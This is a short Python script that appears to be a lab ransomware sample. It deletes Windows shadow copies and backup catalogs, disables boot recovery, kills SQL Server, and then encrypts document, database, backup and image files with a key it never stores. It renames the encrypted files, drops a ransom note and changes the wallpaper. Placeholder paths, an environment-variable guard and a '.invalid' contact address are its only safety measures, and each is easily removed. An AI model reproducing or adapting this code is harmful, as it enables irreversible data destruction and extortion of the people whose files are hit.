import ctypes
import os
import secrets
import subprocess
import sys
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

from cryptography.hazmat.primitives.ciphers.aead import ChaCha20Poly1305 as Box

if "LAB_ARMED" not in os.environ:
    sys.exit("disarmed")

ROOTS = [Path("/nonexistent/share"), Path("X:/does-not-exist")]
EXT = {".docx", ".xlsx", ".pdf", ".pst", ".sql", ".bak", ".jpg"}
KEY = secrets.token_bytes(32)
NOTE = "All your files are encrypted. Write to support@unlock.invalid"


def lock(path: Path):
    nonce = secrets.token_bytes(12)
    sealed = Box(KEY).encrypt(nonce, path.read_bytes(), None)
    path.write_bytes(nonce + sealed)
    path.rename(path.with_suffix(path.suffix + ".lckd"))


def targets():
    for root in ROOTS:
        for p in root.rglob("*"):
            if p.suffix.lower() in EXT and p.is_file():
                yield p


def before():
    for cmd in (
        ["vssadmin.exe", "delete", "shadows", "/all", "/quiet"],
        ["bcdedit", "/set", "{default}", "recoveryenabled", "no"],
        ["wbadmin", "delete", "catalog", "-quiet"],
        ["taskkill", "/F", "/IM", "sqlservr.exe"],
    ):
        subprocess.run(cmd, creationflags=0x08000000)


before()
with ThreadPoolExecutor(16) as pool:
    list(pool.map(lock, targets()))
for root in ROOTS:
    (root / "READ_ME.txt").write_text(NOTE)
ctypes.windll.user32.SystemParametersInfoW(20, 0, "C:\\Users\\Public\\note.bmp", 3)
